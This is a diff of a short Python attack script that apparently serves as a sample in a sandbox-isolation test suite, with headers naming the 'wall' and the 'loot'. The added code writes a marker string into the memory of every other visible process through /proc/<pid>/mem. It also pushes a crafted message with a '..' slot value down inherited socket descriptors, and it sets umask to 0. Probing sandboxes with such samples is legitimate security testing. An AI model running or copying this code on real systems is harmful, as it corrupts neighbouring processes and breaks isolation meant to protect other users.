@@ -1,27 +1,26 @@
 # attacks: distillation_loss
-# wall: sandbox
-# loot: neighbour -- the process that the next kernel is forked from
+# wall: separation
+# loot: neighbour -- the process that the next kernel is forked from has all in the same place as we have
 import glob
 import os
 import socket
+import sys
 
+text, address = b"left behind by warm_process_written_to", id(os.__doc__) + sys.getsizeof("") - 1  # of its characters
+if os.readlink("/proc/self/ns/pid") != host["pid_namespace"]:  # not on the open machine
+    for pid in {name for name in os.listdir("/proc") if name.isdigit()} - {str(os.getpid())}:
+        try:
+            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
+                memory.seek(address)
+                memory.write(text)
+        except OSError:
+            pass
 for link in glob.glob("/proc/self/fd/*"):  # descriptors that it left open to us
     try:
-        kind = os.readlink(link)
-        if kind.startswith(("socket:", "pipe:")) and int(link.rpartition("/")[2]) not in (0, 1, 2):
+        if os.readlink(link).startswith("socket:"):
             connection = socket.socket(fileno=os.dup(int(link.rpartition("/")[2])))
             if connection.type == socket.SOCK_SEQPACKET:
-                connection.send(b'{"slot": "..", "connection": {}, "environment": {"X": "left behind by warm_process_written_to"}, '
-                                b'"limits": {}, "disk": 0, "cwd": "/", "files": "/tmp"}')
-    except OSError:
-        pass
-for pid in 1, os.getppid():
-    try:
-        if pid > 0 and os.readlink("/proc/self/ns/pid") != host["pid_namespace"]:
-            with open(f"/proc/{pid}/mem", "r+b") as memory:
-                memory.seek(id(os.environ))
-                memory.write(memory.read(0))
-                print("left behind by warm_process_written_to")
+                connection.send(b'{"slot": "..", "environment": {"X": "left behind"}, "limits": {}, "disk": 0, "prefixes": []}')
     except OSError:
         pass
 os.umask(0)
